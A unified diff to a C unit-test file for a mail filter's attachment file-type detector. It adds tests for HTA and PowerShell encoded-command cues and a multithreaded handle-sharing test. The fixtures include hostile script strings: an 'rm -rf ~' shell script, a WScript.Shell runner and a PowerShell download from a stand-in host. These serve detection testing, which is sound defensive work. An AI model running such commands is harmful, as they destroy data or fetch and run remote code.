@@ -8,6 +8,8 @@
  * open (zstd, lz4, lzip, ...) by magic and by name, and unreadable archives,
  * members included.
  */
+#include <glib.h>
+
 #include <setjmp.h>
 #include <stdarg.h>
 #include <stddef.h>
@@ -163,6 +165,9 @@ static void test_content_cues(void **state)
 	cat_is(cat("#!/bin/sh\nrm -rf ~\n", 19, "readme.txt"), "script", "shebang");
 	cat_is(cat("#@~^XXXX==", 10, NULL), "script", "encoded script");
 	cat_is(cat("<html><head><HTA:APPLICATION id=x></head></html>", 48, "x.txt"), "script", "HTA content");
+	/* found past other '<', up to the very end of what is read, and not past it */
+	cat_is(cat("<p>a < b</p><<hTa:ApPlIcAtIoN", 30, "x.txt"), "script", "HTA at the end");
+	cat_is(cat("<p>a < b</p><<hta:applicatio", 28, "x.txt"), NULL, "HTA cut short");
 	/* Plain text with an innocent name is nothing. */
 	cat_is(cat("hello world\n", 12, "notes.txt"), NULL, "text");
 	cat_is(cat(pdf_text, strlen(pdf_text), "invoice.pdf"), NULL, "pdf");
@@ -611,7 +616,11 @@ static void test_run_script_content(void **state)
 	static const char wsh[] = "var sh = new ActiveXObject(\"WScript.Shell\");\r\nsh.Run(\"calc\");\r\n";
 	static const char ps[] = "$c = (New-Object Net.WebClient).DownloadString('http://x.test/a');\n";
 	static const char note[] = "Meeting notes: bring the shell scripts and the ActiveX report.\n";
+	static const char tail[] = "powershell -NoProfile -EncodedCommand";
+	static const char cut[] = "powershell -NoProfile -EncodedComman";
 	int a = attach(m, "application/octet-stream", "statement", wsh, strlen(wsh));
+	int d = attach(m, "text/plain", "run.txt", tail, strlen(tail));
+	int e = attach(m, "text/plain", "cut.txt", cut, strlen(cut));
 	int b = attach(m, "text/plain", "notes.txt", ps, strlen(ps));
 	int c = attach(m, "text/plain", "minutes.txt", note, strlen(note));
 	int body = sl_msg_find_part(m, "1");
@@ -622,8 +631,53 @@ static void test_run_script_content(void **state)
 	expect(m, SL_FIND_FILETYPE, "script", a);
 	expect(m, SL_FIND_FILETYPE, "script", b);
 	expect_not(m, SL_FIND_FILETYPE, "script", c);
+	expect(m, SL_FIND_FILETYPE, "script", d); /* a cue that ends the text */
+	expect_not(m, SL_FIND_FILETYPE, "script", e);
 	expect_not(m, SL_FIND_FILETYPE, "script", body);
 	sl_msg_free(m);
+}
+
+/* Threads that come and go (libmilter's pool) share the engine's libmagic
+ * handles: no more sets are opened than runs were in progress at once, and
+ * every run types its parts the same. */
+#define THREADS 4
+#define ROUNDS 5
+
+static gpointer run_in_thread(gpointer data)
+{
+	struct fx *f = data;
+	int k;
+	for (k = 0; k < 3; k++) {
+		struct sl_msg *m = new_msg();
+		unsigned char pe[512];
+		int pdf = attach(m, "application/pdf", "invoice.pdf", pdf_text, strlen(pdf_text));
+		int exe = attach(m, "application/octet-stream", "setup.exe", pe, make_pe(pe));
+		if (sl_filetype_run(f->ft, m) != SL_OK || m->parts[pdf].detected_type == NULL ||
+		    strcmp(m->parts[pdf].detected_type, "application/pdf") != 0 ||
+		    !sl_msg_has_finding(m, SL_FIND_FILETYPE, "executable", exe) ||
+		    m->parts[1].detected_type == NULL || strcmp(m->parts[1].detected_type, "text/plain") != 0) {
+			sl_msg_free(m);
+			return GINT_TO_POINTER(1);
+		}
+		sl_msg_free(m);
+	}
+	return NULL;
+}
+
+static void test_handles_shared_by_threads(void **state)
+{
+	struct fx *f = *state;
+	int r, i, failures = 0;
+	for (r = 0; r < ROUNDS; r++) {
+		GThread *t[THREADS];
+		for (i = 0; i < THREADS; i++)
+			t[i] = g_thread_new("ft", run_in_thread, f);
+		for (i = 0; i < THREADS; i++)
+			failures += GPOINTER_TO_INT(g_thread_join(t[i]));
+	}
+	assert_int_equal(failures, 0);
+	/* one set from sl_filetype_new, at most one more per thread running at once */
+	assert_in_range(sl_filetype_handle_sets(f->ft), 1, THREADS);
 }
 
 static void test_free_null(void **state)
@@ -650,6 +704,7 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_run_unreadable, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_run_dangerous_name_any_content, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_run_script_content, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_handles_shared_by_threads, setup, teardown),
 		cmocka_unit_test(test_free_null),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
